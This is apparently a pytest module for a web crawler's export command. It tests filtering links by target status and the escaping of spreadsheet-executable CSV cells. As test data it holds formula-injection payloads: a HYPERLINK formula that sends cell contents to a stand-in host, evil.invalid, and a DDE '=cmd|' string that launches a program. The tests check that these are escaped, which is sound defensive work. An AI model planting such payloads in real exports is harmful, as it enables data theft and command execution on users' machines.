"""Every page that links to a broken URL: ``export --format links --target-status``, and the report's
pointer to it under a broken link whose referrers it cuts; CSV cells that a spreadsheet would run,
escaped unless ``--raw-cells``. Through the command line, on a site crawled once for the module."""

from __future__ import annotations

import csv
import io
import re
import shlex
from collections.abc import Iterator
from html import unescape
from pathlib import Path

import pytest
from conftest import CLI
from site_server import Site, html

from crawler.report import REFERRERS

FAST = ("--timeout", "2", "--retries", "0", "--no-robots")
HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
LINKERS = 7   # pages that link to /gone, besides the home page


@pytest.fixture(scope="module")
def job(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[CLI, Path, Site]]:
    folder = tmp_path_factory.mktemp("links")
    routes = {
        "/": html("Home", "/gone", "/plus", "/at", *(f"/p/{i}" for i in range(LINKERS)),
                  extra=f'<a href="/tab">{HYPERLINK.replace("&", "&amp;").replace(chr(34), "&quot;")}</a>'),
        "/plus": html("+1+2"),
        "/at": html("@SUM(1+1)"),
        "/tab": html("-2 reasons"),
        **{f"/p/{i}": html(CALC if i == 0 else f"Page {i}", "/gone") for i in range(LINKERS)},
    }   # /gone is no route: it answers 404
    with Site(routes) as site:
        cli = CLI(folder)
        done = cli.in_process("crawl", site.url("/"), "--db", "job.db", *FAST)
        assert done.returncode == 0, done.stderr
        yield cli, folder / "job.db", site


def _rows(cli: CLI, *args: object) -> list[list[str]]:
    done = cli.in_process("export", *args)
    assert done.returncode == 0, done.stderr
    return list(csv.reader(io.StringIO(done.stdout)))


# -- --target-status ------------------------------------------------------------------------------


def test_target_status_lists_every_page_that_links_to_a_404(job: tuple[CLI, Path, Site]) -> None:
    cli, db, site = job
    expected = [[site.url("/"), site.url("/gone")]] + [[site.url(f"/p/{i}"), site.url("/gone")] for i in range(LINKERS)]
    for status in (("404",), ("4xx",), ("500", "404")):
        rows = _rows(cli, "--db", db, "--format", "links", *(w for s in status for w in ("--target-status", s)))
        assert rows[0] == ["source", "target", "nofollow", "anchor", "kind"]
        assert sorted(r[:2] for r in rows[1:]) == sorted(expected), status
    # --status still picks the linking pages: a 404 links nowhere, the pages linking to it are 200s
    assert _rows(cli, "--db", db, "--format", "links", "--status", "404") == [["source", "target", "nofollow", "anchor", "kind"]]
    assert len(_rows(cli, "--db", db, "--format", "links", "--status", "200", "--target-status", "404")) == 1 + LINKERS + 1
    ok = _rows(cli, "--db", db, "--format", "links", "--target-status", "2xx")
    assert {r[1] for r in ok[1:]} == {site.url(p) for p in ("/plus", "/at", "/tab", *(f"/p/{i}" for i in range(LINKERS)))}


@pytest.mark.parametrize(("args", "says"), [
    (("--format", "csv", "--target-status", "404"), "--target-status applies to links (the link graph), not to csv"),
    (("--format", "links", "--target-status", "4x"), "bad --target-status '4x'"),
    (("--format", "jsonl", "--raw-cells"), "--raw-cells applies to csv, links, not to jsonl"),
])
def test_target_status_and_raw_cells_refuse_what_they_cannot_do(job: tuple[CLI, Path, Site], args: tuple[str, ...],
                                                                 says: str) -> None:
    cli, db, _ = job
    line = cli.fails(2, "export", "--db", db, *args)
    assert says in line


def test_the_report_points_to_the_command_that_lists_every_referrer_it_cuts(job: tuple[CLI, Path, Site],
                                                                            tmp_path: Path) -> None:
    cli, db, _ = job
    done = cli.in_process("report", "--db", db, "--out", tmp_path / "r.html")
    assert done.returncode == 0, done.stderr
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    found = re.search(r"\.\.\. and (\d+) more pages: <code>([^<]*)</code>", page)
    assert found is not None
    command = shlex.split(unescape(found[2]))
    assert command == ["crawler", "export", "--db", str(db.resolve()), "--format", "links", "--target-status", "404"]
    rows = _rows(cli, *command[2:])
    assert len(rows) - 1 == 1 + LINKERS == REFERRERS + int(found[1])   # what the report showed, and what it cut


# -- cells a spreadsheet would run ----------------------------------------------------------------


def test_csv_and_links_escape_cells_that_a_spreadsheet_would_run(job: tuple[CLI, Path, Site]) -> None:
    cli, db, site = job
    rows = csv.DictReader(io.StringIO(cli.in_process("export", "--db", db, "--format", "csv").stdout))
    titles = {r["url"]: r["title"] for r in rows}
    assert titles[site.url("/p/0")] == "'" + CALC
    assert titles[site.url("/plus")] == "'+1+2"
    assert titles[site.url("/at")] == "'@SUM(1+1)"
    assert titles[site.url("/tab")] == "'-2 reasons"
    assert titles[site.url("/p/1")] == "Page 1"
    anchors = {r[1]: r[3] for r in _rows(cli, "--db", db, "--format", "links")[1:] if r[0] == site.url("/")}
    assert anchors[site.url("/tab")] == "'" + HYPERLINK
    assert anchors[site.url("/plus")] == "/plus"


def test_raw_cells_writes_text_as_stored_for_scripts(job: tuple[CLI, Path, Site]) -> None:
    cli, db, site = job
    rows = csv.DictReader(io.StringIO(cli.in_process("export", "--db", db, "--format", "csv", "--raw-cells").stdout))
    by_url = {r["url"]: r for r in rows}
    assert by_url[site.url("/p/0")]["title"] == CALC
    assert by_url[site.url("/tab")]["title"] == "-2 reasons"
    assert by_url[site.url("/")]["status"] == "200"
    anchors = {r[1]: r[3] for r in _rows(cli, "--db", db, "--format", "links", "--raw-cells")[1:] if r[0] == site.url("/")}
    assert anchors[site.url("/tab")] == HYPERLINK
